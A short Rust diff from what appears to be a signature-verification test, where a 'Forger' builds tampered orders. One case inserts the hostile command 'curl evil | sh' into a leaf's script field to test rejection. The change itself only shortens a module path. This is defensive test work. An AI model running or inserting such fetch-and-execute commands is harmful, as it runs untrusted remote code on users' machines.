@@ -284,7 +284,7 @@ impl Forger {
             22 => {
                 let mut forged = self.signed("altered: another script in the leaf", |_| {});
                 let other = grave(|value| value["with"] = json!({"script": "curl evil | sh"}));
-                forged.order.leaf = nexusmon_shared::trust::canonical::to_bytes(&other).unwrap().into();
+                forged.order.leaf = canonical::to_bytes(&other).unwrap().into();
                 forged
             }
             23 => {
